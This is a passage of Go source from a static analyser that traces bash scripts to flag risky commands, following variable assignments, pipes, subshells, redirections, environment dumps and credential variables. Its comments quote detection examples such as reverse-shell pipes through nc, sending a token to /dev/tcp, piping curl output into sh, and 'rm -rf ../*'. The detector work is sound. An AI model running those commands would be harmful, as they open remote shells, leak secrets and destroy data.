			if len(call.Assigns) > 1 || as.Name == nil || as.Name.Value != "IFS" || as.Value == nil {
				return nil
			}
			f := r.word(sc, as.Value)
			if seps = f.val; f.dyn || seps == "" || strings.Trim(seps, " \t\n") != "" && strings.ContainsAny(seps, " \t\n") {
				return nil // (blanks mixed with other separators: not followed)
			}
		} else if sc.setsIFS() {
			return nil
		}
		raw, array := false, ""
		var names []string
		for i := 0; i < len(args); i++ {
			switch l := args[i].Lit(); {
			case l == "-r":
				raw = true
			case (l == "-a" || l == "-ra" || l == "-ar") && i+1 < len(args) && array == "":
				raw = raw || l != "-a"
				i++
				array = args[i].Lit()
			case isName(l):
				names = append(names, l)
			default:
				return nil
			}
		}
		if (array == "") == (len(names) == 0) || array != "" && !isName(array) || len(s.Redirs) != 1 || s.Redirs[0].Op != syntax.WordHdoc {
			return nil
		}
		f := r.word(sc, s.Redirs[0].Word)
		if f.dyn || !raw && strings.ContainsRune(f.val, '\\') {
			return nil
		}
		line, _, _ := strings.Cut(f.val, "\n")
		after := s.End().Offset()
		sep := func(r rune) bool { return strings.ContainsRune(seps, r) }
		// Blanks end a field as a run of them, and are trimmed from the
		// line's ends. Separators that are not blanks (IFS=, read a b
		// <<< "x,y") each end one, and the last name takes the rest, less
		// a separator that ends it when it is the rest's only one (b is y
		// for "x,y," but "y,," for "x,y,,", as bash reads them); an array
		// is not followed then.
		blanks := strings.ContainsAny(seps, " \t\n")
		if array != "" {
			if !blanks {
				return nil
			}
			sc.define(array, varDef{value: strings.Join(strings.FieldsFunc(line, sep), "\x00"), array: true, after: after})
			return call
		}
		rest := line
		if blanks {
			rest = strings.TrimFunc(line, sep)
		}
		for _, n := range names[:len(names)-1] {
			word := rest
			if i := strings.IndexAny(rest, seps); i >= 0 {
				word, rest = rest[:i], rest[i+1:]
				if blanks {
					rest = strings.TrimLeftFunc(rest, sep)
				}
			} else {
				rest = ""
			}
			sc.define(n, varDef{value: word, after: after})
		}
		if i := strings.IndexAny(rest, seps); !blanks && i >= 0 && i == len(rest)-1 {
			rest = rest[:i]
		}
		name, val = names[len(names)-1], rest
	case "mapfile", "readarray":
		// mapfile -t NAME <<< TEXT: one element per line, without its
		// newline (-t); without -t each keeps it.
		if len(s.Redirs) != 1 || s.Redirs[0].Op != syntax.WordHdoc || len(args) != 2 || args[0].Lit() != "-t" {
			return nil
		}
		name = args[1].Lit()
		f := r.word(sc, s.Redirs[0].Word)
		if f.dyn || !isName(name) || strings.Contains(f.val, "\x00") {
			return nil
		}
		sc.define(name, varDef{value: strings.ReplaceAll(f.val, "\n", "\x00"), array: true, after: s.End().Offset()})
		return call
	case "printf":
		if len(args) < 3 || args[0].Lit() != "-v" {
			return nil
		}
		name = args[1].Lit()
		fs := r.words(sc, args[2:])
		if slices.ContainsFunc(fs, func(f field) bool { return f.dyn }) {
			return nil
		}
		out, ok := printed("printf", fieldVals(fs), false)
		if !ok {
			return nil
		}
		val = out
	default:
		return nil
	}
	if !isName(name) {
		return nil
	}
	sc.define(name, varDef{value: val, after: s.End().Offset()})
	return call
}

// lookup returns the statically known value of a variable at offset pos.
func (sc *scope) lookup(name string, pos uint) (string, bool) {
	if d, ok := sc.vars[name]; ok {
		d = d.at(pos)
		if d.tainted || pos < d.after {
			return "", false
		}
		if d.array {
			first, _, _ := strings.Cut(d.value, "\x00")
			return first, true
		}
		return d.value, true
	}
	v, ok := sc.inherit[name]
	return v, ok
}

// setsIFS reports whether the script, or the one around it, gives IFS a
// value of its own: words then split where it says (see exEnv.Get).
func (sc *scope) setsIFS() bool {
	if _, ok := sc.vars["IFS"]; ok {
		return true
	}
	_, ok := sc.inherit["IFS"]
	return ok
}

// lookupArray returns the elements of an indexed array the script gave a
// known value, at offset pos.
func (sc *scope) lookupArray(name string, pos uint) ([]string, bool) {
	d, ok := sc.vars[name]
	if !ok || !d.array || d.tainted || pos < d.after {
		return nil, false
	}
	return strings.Split(d.value, "\x00"), true
}

// known returns the variables with a static value at offset pos, for a
// nested script.
func (sc *scope) known(pos uint) map[string]string {
	out := make(map[string]string, len(sc.inherit)+len(sc.vars)+len(sc.funcs))
	for k, v := range sc.inherit {
		out[k] = v
	}
	for name := range sc.funcs {
		out[funcKey+name] = "" // see inheritFuncs
	}
	for k, d := range sc.vars {
		if d = d.at(pos); d.tainted || pos < d.after {
			delete(out, k)
			continue
		}
		out[k] = d.value
	}
	return out
}

// funcKey starts the keys under which a scope's known values carry the
// names of the functions the script defines: no variable's name starts
// with it, so no expansion reads them.
const funcKey = "\x00func "

// inheritFuncs makes the functions of the script that started this one
// functions of this one whose text is not known: a function exported to
// the shell a script runs (echo() {...}; export -f echo; bash -c 'echo hi
// | sh') prints what it prints there too. Every function of the parent is
// taken as exported, the stricter reading.
func (sc *scope) inheritFuncs() {
	for k := range sc.inherit {
		name, ok := strings.CutPrefix(k, funcKey)
		if !ok || name == "" {
			continue
		}
		if _, defined := sc.funcs[name]; !defined {
			if sc.funcs == nil {
				sc.funcs = map[string]*syntax.FuncDecl{}
			}
			sc.funcs[name] = nil
		}
	}
}

// known is sc.known with the NAME=VALUE words env gives the command being
// judged (env F=~/.bashrc sh -c 'echo x >> "$F"'): what a script or
// program that command runs inherits.
func (r *run) known(sc *scope, pos uint) map[string]string {
	out := sc.known(pos)
	for _, w := range r.calls.envWords {
		if n, v, ok := strings.Cut(w.val, "="); ok && isName(n) {
			if w.dyn {
				delete(out, n)
			} else {
				out[n] = v
			}
		}
	}
	return out
}

// linkPipe records, for a pipe, which statement feeds each statement
// that reads it first: the whole left side, whose every statement may
// write into the pipe ({ echo a; echo b; } | sh); see writerInput.
func (sc *scope) linkPipe(n *syntax.BinaryCmd) {
	if n.Op != syntax.Pipe && n.Op != syntax.PipeAll {
		return
	}
	up := n.X
	if sc.pipeUp == nil {
		sc.pipeUp = map[*syntax.Stmt]*syntax.Stmt{}
	}
	for _, s := range leftmost(n.Y) {
		sc.pipeUp[s] = up
	}
}

// upstream returns what pipes into w, a command on the left of a pipe: into
// w itself or into the statements of it that read first.
func (sc *scope) upstream(w *syntax.Stmt) *syntax.Stmt {
	if up, ok := sc.pipeUp[w]; ok {
		return up
	}
	for _, s := range leftmost(w) {
		if up, ok := sc.pipeUp[s]; ok {
			return up
		}
	}
	return nil
}

// walk analyses every statement of f in source order.
func (r *run) walk(sc *scope, f *syntax.File) {
	var visit func(syntax.Node) bool
	// apart walks nodes as bash runs them in a subshell: a cd there does
	// not move the shell around it.
	apart := func(nodes ...syntax.Node) bool {
		cwd, oldpwd, cdDone := r.cwd, r.oldpwd, r.cdDone
		for _, n := range nodes {
			walkTree(n, visit)
		}
		r.cwd, r.oldpwd, r.cdDone = cwd, oldpwd, cdDone
		return false
	}
	visit = func(n syntax.Node) bool {
		if n == nil {
			return true
		}
		if !r.step() {
			return false
		}
		switch n := n.(type) {
		case *syntax.BinaryCmd:
			sc.linkPipe(n)
			if n.Op == syntax.Pipe || n.Op == syntax.PipeAll {
				// Each side of a pipe is a subshell. What the pipe's
				// prefixes write is read once while it is walked.
				added := r.rememberPipe(n)
				apart(n.X)
				apart(n.Y)
				r.forgetPipe(added)
				return false
			}
			if r.cdAlt && n.Op == syntax.AndStmt && !r.inAndChain {
				// A cd in an && list moves the folder for the rest of the
				// list only: after it the cd may have failed (cd a && make;
				// rm -rf ../*).
				r.inAndChain = true
				apart(n.X, n.Y)
				r.inAndChain = false
				return false
			}
		case *syntax.Subshell:
			return apart(stmtNodes(n.Stmts)...)
		case *syntax.IfClause:
			if r.cdAlt && len(n.Cond) > 0 && sc.cdSure[callOf(n.Cond[len(n.Cond)-1])] {
				// if cd DIR; then ...: the cd moves the folder for the
				// branch it guards; an else, and what follows, may run
				// where the shell was.
				apart(append(stmtNodes(n.Cond), stmtNodes(n.Then)...)...)
				if n.Else != nil {
					walkTree(n.Else, visit)
				}
				return false
			}
		case *syntax.CmdSubst:
			return apart(stmtNodes(n.Stmts)...)
		case *syntax.ProcSubst:
			if sc.procIn == nil {
				sc.procIn = map[*syntax.Stmt]bool{}
			}
			for _, s := range n.Stmts {
				sc.procIn[s] = true
			}
			return apart(stmtNodes(n.Stmts)...)
		case *syntax.Stmt:
			// In the background (or as a coprocess) the statement runs in a
			// subshell: what it writes is judged all the same, a cd in it
			// moves nothing around it.
			cwd, oldpwd, cdDone := r.cwd, r.oldpwd, r.cdDone
			r.stmt(sc, n)
			if len(r.calls.planted) > 0 {
				r.judgePlanted(sc, n)
			}
			if n.Background || n.Coprocess {
				r.cwd, r.oldpwd, r.cdDone = cwd, oldpwd, cdDone
				return apart(stmtChildren(n)...)
			}
		case *syntax.ParamExp:
			r.promptExpansion(sc, n)
			r.paramArith(sc, n)
		case *syntax.ArithmCmd:
			r.arithmetic(sc, n.X)
		case *syntax.ArithmExp:
			r.arithmetic(sc, n.X)
		case *syntax.CStyleLoop:
			r.arithmetic(sc, n.Init, n.Cond, n.Post)
		case *syntax.LetClause:
			r.arithmetic(sc, n.Exprs...)
		case *syntax.TestClause:
			r.testClause(sc, n)
		case *syntax.Assign:
			r.assignArith(sc, n)
			if n.Name != nil && n.Name.Value == "BASH_CMDS" {
				r.bashCmds(sc, n)
			}
			if n.Name != nil && n.Name.Value == "BASH_ALIASES" {
				r.bashAliases(sc, n)
			}
		case *syntax.DeclClause:
			r.declArith(sc, n)
			r.declCompound(sc, n)
			for _, as := range n.Args {
				if as.Value != nil {
					f := r.word(sc, as.Value)
					r.checkAssigned(sc, f, "")
					if as.Name != nil {
						r.envAssign(sc, as.Name.Value, r.selfExtended(f, as), ctx{pos: n.Pos().Offset()}, r.nodeText(sc, n))
					} else if name, v, ok := strings.Cut(f.val, "="); ok && !f.dyn && isName(name) {
						// export $v=VALUE, its name from a variable the
						// script set: bash assigns what the word expands to.
						r.envAssign(sc, name, field{val: v}, ctx{pos: n.Pos().Offset()}, r.nodeText(sc, n))
					} else if f.dyn {
						r.assignsFromFiles(sc, as.Value, ctx{pos: n.Pos().Offset()}, r.nodeText(sc, n))
					}
				}
			}
		}
		return true
	}
	walkTree(f, visit)
}

// stmtNodes are statements as nodes.
func stmtNodes(stmts []*syntax.Stmt) []syntax.Node {
	out := make([]syntax.Node, len(stmts))
	for i, s := range stmts {
		out[i] = s
	}
	return out
}

// stmtChildren are what walkTree visits under a statement: its command
// and its redirections.
func stmtChildren(s *syntax.Stmt) []syntax.Node {
	var out []syntax.Node
	if s.Cmd != nil {
		out = append(out, s.Cmd)
	}
	for _, rd := range s.Redirs {
		out = append(out, rd)
	}
	return out
}

// promptExpansion judges ${NAME@P}: bash expands the value as a prompt
// string, running the command substitutions in it. A value the analyser
// knows has those analysed; one it does not know asks.
func (r *run) promptExpansion(sc *scope, pe *syntax.ParamExp) {
	if _, ok := isPromptOp(pe); !ok || pe.Param == nil {
		return
	}
	name := pe.Param.Value
	v, ok := sc.lookup(name, pe.Pos().Offset()) // an array's elements too
	if !ok {
		v, ok = r.knownVar(sc, name, pe.Pos().Offset()) // HOME, the conventional defaults
	}
	if !ok {
		r.finding(ruleEvalDynamic, Dynamic, Ask, "${"+name+"@P} expands a value that is not known as a prompt, running its command substitutions", bound(r.nodeText(sc, pe)), "")
		return
	}
	if strings.Contains(v, "$(") || strings.ContainsRune(v, '`') {
		// The value is read as the inside of a double-quoted word; each
		// command substitution in it runs.
		r.substitutionsIn(sc, v, pe.Pos().Offset())
	}
}

// leftmost are the statements that may read a pipe's output, or a
// compound command's redirected input, first: every statement of a group,
// a loop's body, an if's conditions and branches, a case's branches.
func leftmost(s *syntax.Stmt) []*syntax.Stmt {
	if s == nil {
		return nil
	}
	var out []*syntax.Stmt
	each := func(stmts []*syntax.Stmt) {
		for _, t := range stmts {
			out = append(out, leftmost(t)...)
		}
	}
	switch c := s.Cmd.(type) {
	case *syntax.BinaryCmd:
		// a && b || c parses as (a && b) || c: the left operands are
		// followed without recursion, however long the chain; the
		// right operand of a pipe reads the pipe, not what the chain
		// reads. The nesting of groups and compound commands the
		// recursion follows is bounded by the pre-pass (Config.MaxDepth).
		var rights []*syntax.Stmt
		x := s
		for {
			b, ok := x.Cmd.(*syntax.BinaryCmd)
			if !ok {
				break
			}
			if b.Op != syntax.Pipe && b.Op != syntax.PipeAll {
				rights = append(rights, b.Y)
			}
			x = b.X
		}
		out = leftmost(x)
		for i := len(rights) - 1; i >= 0; i-- {
			out = append(out, leftmost(rights[i])...)
		}
	case *syntax.Subshell:
		each(c.Stmts)
	case *syntax.Block:
		each(c.Stmts)
	case *syntax.WhileClause:
		each(c.Do)
	case *syntax.IfClause:
		// The condition, or a branch after a condition that read
		// nothing.
		for ic := c; ic != nil; ic = ic.Else {
			each(ic.Cond)
			each(ic.Then)
		}
	case *syntax.ForClause:
		each(c.Do)
	case *syntax.CaseClause:
		for _, it := range c.Items {
			each(it.Stmts)
		}
	case *syntax.CoprocClause:
		return leftmost(c.Stmt)
	default:
		return []*syntax.Stmt{s}
	}
	return out
}

// input describes a command's standard input.
type input struct {
	kind  inputKind
	text  string  // script text (here-doc, here-string, static echo)
	words []field // items for xargs, when known
	find  bool    // items are find start points: everything under them
	// environ says the input holds the shell's environment (env | ...),
	// and with it any secret the environment carries.
	environ bool
	// peer says the input is what a network peer sends over a connection
	// a client holds open (nc HOST PORT | sh).
	peer bool
	// shellOut says the input is the output of a shell that reads its
	// commands from its own input (sh -i 2>&1 | nc HOST PORT).
	shellOut bool
	// download says the input is what a URL program fetches (curl URL |
	// tar xz): files made of it were not there to read (see admin.go).
	download bool
	// endless says the input never ends (yes, seq inf, an endless loop):
	// xargs -P 0 starts a process for every line, without limit.
	endless bool
	// pids says the input is the ID of every process, of init or of a
	// process the host needs (whyAllPids: ps -e | xargs kill), or of a
	// system service's (whyServicePids): see substPids.
	pids   string
	detail string
	// partial is, when the text is not known as a whole, the known text
	// some of its writers give it ((crontab -l; echo LINE) | crontab -,
	// { curl URL; echo CMD; } | sh): each is in the input, whatever the
	// rest is, so it is judged as the reader would read it.
	partial string
	// files are, for an input of kind inFile, the files it is made of,
	// in order, a name as written made absolute against the working
	// folder (< run.sh, cat run.sh lib.sh |), or a word not known (<
	// "$X"): a shell that reads its commands from it reads those files
	// (stdinScript).
	files []field
}

type inputKind uint8

const (
	inNone    inputKind = iota // terminal or inherited
	inText                     // known text
	inFile                     // a named file (a script file)
	inUnknown                  // output of a program, a download, ...
)

// inheritInput gives in, the standard input a script inherits from the
// command that runs it, to the statements of f that read their input
// first: every statement's leftmost, since each reads what the ones
// before left (the stricter reading).
func inheritInput(sc *scope, f *syntax.File, in input) {
	if in.kind == inNone {
		return
	}
	for _, s := range f.Stmts {
		for _, t := range leftmost(s) {
			if sc.groupIn == nil {
				sc.groupIn = map[*syntax.Stmt]input{}
			}
			if _, ok := sc.groupIn[t]; !ok {
				sc.groupIn[t] = in
			}
		}
	}
}

// stmt analyses a statement's redirections and its simple command.
func (r *run) stmt(sc *scope, s *syntax.Stmt) {
	in := sc.groupIn[s]
	if up, ok := sc.pipeUp[s]; ok {
		in = r.writerInput(sc, up, consumesPaths(s))
	}
	call, _ := s.Cmd.(*syntax.CallExpr)
	var outs []outRedir
	net := "" // a network pseudo-device a redirection names
	cmdText := ""
	if call != nil {
		cmdText = r.nodeText(sc, call)
	}
	var fdIns map[string]input // the inputs this statement opens on other descriptors
	for _, rd := range s.Redirs {
		switch rd.Op {
		case syntax.Hdoc, syntax.DashHdoc:
			in = input{kind: inText, detail: "a here-document"}
			if rd.Hdoc != nil {
				in.text = r.hdocText(sc, rd.Hdoc)
				// Expanded as the here-document is unless quoted: the
				// items a reader such as xargs takes from it, and whether
				// it holds the environment ($(env) in it).
				if paths := consumesPaths(s); paths || rd.Hdoc.Lit() == "" {
					hf := r.document(sc, rd.Hdoc)
					in.environ = hf.why == whyEnviron
					if paths && !hf.dyn {
						in.words = textWords(hf.val)
					}
					if _, loop := s.Cmd.(*syntax.WhileClause); loop {
						in.text = hf.val // a read loop's lines, expanded (not known: none)
						if hf.dyn {
							in.kind = inUnknown
						}
					}
				}
			}
		case syntax.WordHdoc:
			f := r.word(sc, rd.Word)
			if f.dyn {
				in = input{kind: inUnknown, environ: f.why == whyEnviron, detail: "a here-string with " + f.why}
			} else {
				in = input{kind: inText, text: f.val, words: textWords(f.val), detail: "a here-string"}
			}
		case syntax.RdrIn:
			f := r.word(sc, rd.Word)
			net = cmp.Or(netDevice(rd.Word, f), net)
			r.traceOpen(sc, f, false)
			r.checkWords(sc, []field{f}, cmdText)
			r.rawDiskRead(f, cmdText)
			switch d := netDevice(rd.Word, f); {
			case f.why == whyProcSubst:
				in = input{kind: inUnknown, detail: "a process substitution"}
				// < <(CMD) reads what CMD writes, as CMD | would.
				if ps, ok := procSubstIn(rd.Word); ok {
					_, loop := s.Cmd.(*syntax.WhileClause) // a read loop takes the paths too
					if pin := r.writersInput(sc, ps.Stmts, consumesPaths(s) || loop); pin.find || pin.environ || pin.peer || pin.download || pin.shellOut || pin.kind == inText {
						in = pin
					}
				}
			case d != "":
				in = input{kind: inUnknown, detail: "the network connection " + d}
			default:
				in = r.fileInput(f)
			}
		case syntax.DplIn, syntax.DplOut:
			f := r.word(sc, rd.Word)
			net = cmp.Or(netDevice(rd.Word, f), net)
			if rd.Op == syntax.DplIn && (rd.N == nil || rd.N.Value == "0") && !f.dyn && isDigits(f.val) && f.val != "0" {
				// <&3 reads what the descriptor holds: what this
				// statement or an earlier exec opened on it, else
				// something not known.
				if v, ok := fdIns[f.val]; ok {
					in = v
				} else if v, ok := r.fds[f.val]; ok {
					in = v
				} else if f.val != "1" && f.val != "2" {
					in = input{kind: inUnknown, detail: "the descriptor " + f.val}
				}
			}
			if f.dyn || f.val == "-" || isDigits(f.val) {
				continue
			}
			r.checkWords(sc, []field{f}, cmdText)
			if rd.Op == syntax.DplOut {
				r.judgeWrite(sc, f, ruleDiskWrite, cmdText)
			}
		case syntax.RdrOut, syntax.AppOut, syntax.RdrInOut, syntax.RdrClob, syntax.RdrAll,
			syntax.AppAll, syntax.RdrAllClob, syntax.AppAllClob:
			f := r.word(sc, rd.Word)
			net = cmp.Or(netDevice(rd.Word, f), net)
			r.traceOpen(sc, f, true)
			r.checkWords(sc, []field{f}, cmdText)
			r.judgeWrite(sc, f, ruleDiskWrite, cmdText)
			outs = append(outs, outRedir{f, rd.Op == syntax.AppOut || rd.Op == syntax.AppAll})
		}
		if rd.N != nil && rd.N.Value != "0" && (rd.Op == syntax.Hdoc || rd.Op == syntax.DashHdoc || rd.Op == syntax.WordHdoc || rd.Op == syntax.RdrIn) {
			// 3<<<TEXT is read as standard input as well (the stricter
			// reading), and kept for a <&3.
			if fdIns == nil {
				fdIns = map[string]input{}
			}
			fdIns[rd.N.Value] = in
		}
	}
	if call != nil && len(call.Args) == 1 && call.Args[0].Lit() == "exec" {
		// exec 3<<<TEXT opens the descriptor for the rest of the script.
		for fd, v := range fdIns {
			if r.fds == nil {
				r.fds = map[string]input{}
			}
			r.fds[fd] = v
		}
	}
	if sc.procIn[s] && in.kind == inNone {
		in = input{kind: inUnknown, detail: "a process substitution"}
	}
	if call == nil {
		if _, ok := s.Cmd.(*syntax.CoprocClause); ok && in.kind == inNone {
			// A coprocess reads what the script writes to its descriptor
			// later (echo CMD >&"${COPROC[1]}"), which is not read here.
			in = input{kind: inUnknown, detail: "what the script writes to the coprocess"}
		}
		r.netShell("a compound command", ctx{net: net}, r.nodeText(sc, s))
		r.noteOuts(sc, outs, nil, nil, in)
		r.noteSecretOuts(sc, s, nil, outs)
		if in.kind != inNone && (in.kind != inFile || in.environ || in.peer || in.download || in.shellOut) {
			// The statements inside that may read the input first read
			// this one ({ sh; } <<< CMD, if ...; then sh; fi <<< CMD); a
			// file's contents, which no reader judges, are left out.
			for _, t := range leftmost(s) {
				if sc.groupIn == nil {
					sc.groupIn = map[*syntax.Stmt]input{}
				}
				sc.groupIn[t] = in
			}
		}
		if fc, ok := s.Cmd.(*syntax.ForClause); ok {
			r.forLoop(sc, fc)
		}
		if wc, ok := s.Cmd.(*syntax.WhileClause); ok {
			if in.kind == inNone {
				// A pipe into a loop is recorded against the statements
				// that read it first (see leftmost).
				for _, t := range leftmost(s) {
					if up, ok := sc.pipeUp[t]; ok {
						in = r.writerInput(sc, up, true)
						break
					}
				}
			}
			r.readLoop(sc, wc, in)
		}
		return
	}
	for _, as := range call.Assigns {
		if as.Value != nil {
			f := r.assignValue(sc, as.Value)
			r.checkAssigned(sc, f, cmdText)
			if as.Name != nil {
				r.envAssign(sc, as.Name.Value, r.selfExtended(f, as), ctx{in: in, pos: call.Pos().Offset()}, cmdText)
				r.taintHeld(sc, as.Name.Value, as.Value)
			}
		}
	}
	if len(call.Args) == 0 {
		r.noteOuts(sc, outs, call, nil, in)
		return
	}
	// A builtin that gives a variable a value (printf -v NAME, read NAME)
	// sets it as an assignment does: BASH_ENV, LD_PRELOAD and the other
	// variables that make programs run code are judged with the value it
	// gives, or as not known (what read takes from its input).
	if n := call.Args[0].Lit(); (n == "mapfile" || n == "readarray") && len(r.written) > 0 {
		for _, w := range call.Args[1:] {
			if isName(w.Lit()) {
				r.taintHeld(sc, w.Lit(), s) // mapfile -t a < t
			}
		}
	}
	for _, name := range builtinAssigned(call) {
		r.taintHeld(sc, name, s) // read x < t
		f := field{dyn: true, why: "the input read"}
		if v, ok := sc.lookup(name, s.End().Offset()); ok {
			f = field{val: v}
		}
		r.envAssign(sc, name, f, ctx{in: in, pos: call.Pos().Offset()}, cmdText)
	}
	fields := r.words(sc, call.Args)
	if len(fields) > 0 && !fields[0].dyn {
		inner := innerCommand(fields) // the program a wrapper runs (sudo curl, env curl)
		r.environSent(sc, inner, in, net, cmdText)
		r.secretEgress(sc, s, call, fields, inner, cmdText)
		if net != "" {
			// What the command prints goes to the socket (echo "$T" >
			// /dev/tcp/host/80): a credential among its words is sent
			// there.
			if names := r.sentCredentials(sc, s, call, fields); len(names) > 0 {
				var hosts []string // /dev/tcp/HOST/PORT, a host known only when static
				if host, _, ok := strings.Cut(net[len("/dev/tcp/"):], "/"); ok && host != "" && !strings.ContainsAny(host, "$`") {
					hosts = []string{asciiLower(host)}
				}
				r.judgeEgress(base(inner[0].val), names, hosts, cmdText)
			}
		}
		if base(inner[0].val) == "git" {
			r.gitRecordsSecret(sc, call, inner)
		}
	}
	r.defaultReading(sc, call)
	// A program that lists names (ls ~/*) does not read what a pattern
	// may match; the paths it names exactly are still checked.
	r.listing = len(fields) > 0 && listingPrograms[base(fields[0].val)]
	r.checkAsWritten(sc, fields, cmdText)
	r.listing = false
	if len(fields) == 1 && base(fields[0].val) == "exec" {
		r.netShell("exec", ctx{net: net}, cmdText) // the socket stays open for what follows
	}
	outer, outerCall, envWords := r.cdpath, r.cmdCall, len(r.calls.envWords)
	r.cmdCall = call
	for _, as := range call.Assigns {
		if as.Name != nil && as.Name.Value == "CDPATH" && len(call.Args) > 0 {
			f := field{}
			if as.Value != nil {
				f = r.word(sc, as.Value)
			}
			// For this command and what it runs (CDPATH=/root cd .ssh,
			// CDPATH=/root sh -c 'cd .ssh').
			r.cdpath = &f
		}
	}
	r.simple(sc, fields, ctx{in: in, pos: call.Pos().Offset(), net: net, findTree: r.loopTree})
	r.cdpath, r.cmdCall = outer, outerCall
	r.calls.envWords = r.calls.envWords[:envWords] // env's words end with the command
	r.noteOuts(sc, outs, call, fields, in)
	r.noteSecretOuts(sc, s, call, outs)
}

// noteSecretOuts marks the files a statement's output redirections fill
// with the environment (env > e.txt, export -p > e) or with a credential
// variable's value (echo "$GITHUB_TOKEN" > t.txt, printenv NPM_TOKEN > t):
// sending such a file is sending what it holds (see credentialFileSent).
func (r *run) noteSecretOuts(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, outs []outRedir) {
	if len(outs) == 0 {
		return
	}
	environ := false
	if text := r.nodeText(sc, s); strings.Contains(text, "env") || strings.Contains(text, "set") || strings.Contains(text, "export") ||
		strings.Contains(text, "declare") || strings.Contains(text, "typeset") || containsLower(text, "env") {
		// Only a dump of the environment holds it (env, printenv, set,
		// export -p, declare -x, typeset -x, through any wrapper; the
		// environPrinters, whose words say env, export or ENV).
		environ = r.pipeInput(sc, s, false).environ
	}
	secret := ""
	if call != nil {
		if c := r.credentials(sc, call, nil); len(c) > 0 {
			secret = c[0]
		}
	}
	if !environ && secret == "" {
		return
	}
	for _, o := range outs {
		r.noteHeld(o.f, environ, secret)
	}
}

// taintLoopReads makes the variables a while loop's read sets hold the
// credential its input carries (a file whose name says it holds one, or a
// command that prints one): from is the loop's redirections or the
// command piping into it.
func (r *run) taintLoopReads(sc *scope, wc *syntax.WhileClause, from any) {
	vars := readVars(wc.Cond)
	if len(vars) == 0 {
		return
	}
	var names []string
	switch f := from.(type) {
	case []*syntax.Redirect:
		for _, rd := range f {
			names = r.credentials(sc, rd, names)
		}
	case *syntax.Stmt:
		names = r.credentials(sc, f, names)
	}
	if len(names) == 0 {
		return
	}
	for _, v := range vars {
		sc.taintWith(v, names[0])
	}
}

// taintHeld makes the variable name hold the credential that n reads
// from a file this command filled with one (x=$(cat t), read x < t): the
// pre-pass, which runs before any file is written, cannot see it.
func (r *run) taintHeld(sc *scope, name string, n syntax.Node) {
	if len(r.written) == 0 {
		return
	}
	if c := r.credentials(sc, n, nil); len(c) > 0 {
		sc.taintWith(name, c[0])
	}
}

// noteHeld marks a file the command writes as holding the environment or
// a credential's value (see written).
func (r *run) noteHeld(f field, environ bool, secret string) {
	r.eachWritten(f, func(_ string, w written) written {
		w.environ = w.environ || environ
		w.secret = cmp.Or(w.secret, secret)
		return w
	})
}

// envFolder returns the value the environment variable name has for the
// command at pos: an assignment before the command, else a value the
// script gave it earlier (exported or not: the safer reading, since a
// later export or a sourcing shell may pass it on). false when the
// variable has no value the analyser knows.
func (r *run) envFolder(sc *scope, name string, pos uint) (field, bool) {
	for i := len(r.calls.envWords) - 1; i >= 0; i-- {
		if n, v, _ := strings.Cut(r.calls.envWords[i].val, "="); n == name {
			f := r.calls.envWords[i]
			f.val = v
			return f, true
		}
	}
	var assigns []*syntax.Assign
	if r.cmdCall != nil {
		assigns = r.cmdCall.Assigns
	}
	for i := len(assigns) - 1; i >= 0; i-- {
		if as := assigns[i]; as.Name != nil && as.Name.Value == name {
			if as.Value == nil {
				return field{}, true
			}
			return r.word(sc, as.Value), true
		}
	}
	if v, ok := sc.lookup(name, pos); ok {
		return field{val: v}, true
	}
	return field{}, false
}

// defaultReading judges a command whose words hold ${NAME:-WORD} (or -,
// :=, =) of a variable the analyser does not know a second time, with
// WORD in its place: bash uses it when NAME is unset, so ${RM:-rm} -rf
// ${D:-~} may be rm -rf ~.
func (r *run) defaultReading(sc *scope, call *syntax.CallExpr) {
	type edit struct {
		start, end int
		text       string
	}
	var edits []edit
	part := func(p syntax.WordPart) {
		pe, ok := p.(*syntax.ParamExp)
		if !ok || pe.Exp == nil || pe.Exp.Word == nil || pe.Param == nil || pe.Excl || pe.Length {
			return
		}
		switch pe.Exp.Op {
		case syntax.DefaultUnset, syntax.DefaultUnsetOrNull, syntax.AssignUnset, syntax.AssignUnsetOrNull:
		default:
			return
		}
		if _, known := sc.lookup(pe.Param.Value, pe.Pos().Offset()); known || pe.Param.Value == "HOME" || pe.Param.Value == "PWD" {
			return
		}
		start, end := int(pe.Pos().Offset()), int(pe.End().Offset())
		if text := r.nodeText(sc, pe.Exp.Word); text != "" && start >= 0 && end <= len(sc.src) {
			edits = append(edits, edit{start, end, text})
		}
	}
	// The expansions of the words themselves, quoted or not; those in a
	// command substitution are judged with it.
	for _, w := range call.Args {
		for _, p := range w.Parts {
			if dq, ok := p.(*syntax.DblQuoted); ok {
				for _, q := range dq.Parts {
					part(q)
				}
				continue
			}
			part(p)
		}
	}
	if len(edits) == 0 || len(edits) > 8 {
		return
	}
	start, end := int(call.Pos().Offset()), int(call.End().Offset())
	if start < 0 || end > len(sc.src) {
		return
	}
	var b strings.Builder
	at := start
	for _, e := range edits {
		if e.start < at || e.end > end {
			return
		}
		b.WriteString(sc.src[at:e.start])
		b.WriteString(e.text)
		at = e.end
	}
	b.WriteString(sc.src[at:end])
	r.script(b.String(), r.known(sc, call.Pos().Offset()), sc.depth+1)
}

// selfExtended returns f, the value of the assignment as, as static when
// its only expansions are of the variable itself and of the known $HOME
// and $PWD (PATH="$PWD/bin:$PATH"): what the variable held before is no
// part this command adds.
func (r *run) selfExtended(f field, as *syntax.Assign) field {
	if !f.dyn || as.Name == nil || as.Value == nil {
		return f
	}
	self := func(p syntax.WordPart) bool {
		name, ok := simpleParam(p)
		return ok && (name == as.Name.Value || name == "HOME" || name == "PWD" && r.cwd != "")
	}
	for _, p := range as.Value.Parts {
		switch p := p.(type) {
		case *syntax.Lit, *syntax.SglQuoted:
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if _, lit := q.(*syntax.Lit); !lit && !self(q) {
					return f
				}
			}
		default:
			if !self(p) {
				return f
			}
		}
	}
	f.dyn, f.why = false, ""
	return f
}

// checkAsWritten matches words against the sensitive paths as written
// (checkWords without the file system); checkTargets resolves those that
// the catalogue says are targets.
func (r *run) checkAsWritten(sc *scope, fs []field, cmd string) {
	r.lexicalOnly, r.lexCwd = true, r.cwd
	r.checkWords(sc, fs, cmd)
	r.lexicalOnly = false
}

// checkAssigned checks a variable's value (VAR=value, export VAR=value),
// which a program may read as a path or run as a command: each path-like
// part of each word as written, and through the file system the value
// and its words, except option strings (GOFLAGS=-mod=readonly names no
// file, and its parts are no more files than any other text).
func (r *run) checkAssigned(sc *scope, f field, cmd string) {
	f.command = true
	r.checkAsWritten(sc, []field{f}, cmd)
	if r.env.Canonical == nil || f.dyn {
		return
	}
	var buf [8]field // checkTargets keeps no field: the list stays on the stack
	ts := buf[:0]
